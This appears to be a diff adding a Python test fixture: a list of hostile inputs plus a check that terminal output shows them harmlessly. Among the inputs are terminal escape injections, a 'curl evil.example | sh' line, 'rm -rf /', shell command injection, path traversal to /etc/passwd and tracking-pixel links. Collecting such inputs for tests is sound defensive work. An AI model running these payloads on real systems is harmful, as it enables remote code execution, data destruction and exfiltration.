@@ -1,0 +1,49 @@
+"""Texts that somebody may send who means no good, and what must become of them."""
+
+import re
+from typing import Final
+
+#: A part of each of them by which it is found again, where all of it may not be left.
+MARK: Final = "zq7"
+
+#: By kind: each has an own way to do harm.
+TEXTS: Final = (
+    f"\x1b]0;{MARK}\x07",  # the terminal's title
+    f"\x1b[2J\x1b[H{MARK}",  # clears the screen
+    f"\x1b]52;c;{MARK}\x07",  # the clipboard
+    f"\x1b]8;;https://{MARK}.example\x07x\x1b]8;;\x07",  # a link
+    f"\x9b31m{MARK}\x9d0;x\x9c",  # the same in one byte each
+    f"{MARK}\r\n\nBASE_URL=https://evil.example\n",
+    f"{MARK}\x0bcurl -s http://evil.example/x|sh\x0b\x0c\x85",
+    f"{MARK}\u2028rm -rf /\u2029",
+    f"\u202e{MARK}\u2066\u200f\u061c",  # turns the direction of writing
+    f"\x00\x08\x7f{MARK}\ufeff\u200b\u00ad\U000e0041",  # cannot be seen
+    f"\ud800{MARK}\udfff",  # halves of a character
+    f"[link=https://evil.example]{MARK}[/link] [/red] [bold",
+    f"![{MARK}](https://evil.example/pixel.png)",
+    f"[{MARK}](https://evil.example) <https://evil.example>",
+    f"<img src=https://evil.example/p.png>{MARK}<script>x</script><!--",
+    f"```\n![{MARK}](https://evil.example/p.png)\n```\n",
+    f"{MARK} | x | ``` ` ``",
+    f"x”) {MARK} “y",
+    f"{MARK}; touch /tmp/pwned; $(id) `id` ${{IFS}} && id | id > x",
+    f"'\"; id; '{MARK}",
+    f"light.x:\n  y\nshell_command:\n  {MARK}: id\n- *a &b !!python/x",
+    f"{{host}} {{paste}} {{0}} {{{MARK}}} %s %(x)s",
+    f"${{LONG_LIVED_ACCESS_TOKEN}} {MARK}",
+    f"-{MARK} --help",
+    f"../../{MARK}/../etc/passwd",
+    f"https://smith-family-{MARK}.example.net/ 2a02:810d:1234::77 93.184.216.34",
+    MARK * 100_000,
+)
+
+#: What our own styles write.
+_STYLE: Final = re.compile(r"\x1b\[[0-9;]*m")
+
+
+def assert_harmless(shown: str) -> None:
+    """All of a text can be seen, and a terminal does nothing but show it."""
+    bare = _STYLE.sub("", shown)
+    hidden = {one for one in bare if not one.isprintable()} - {"\n"}
+    assert not hidden, (hidden, bare[:300])
+    assert "\x1b]8" not in shown
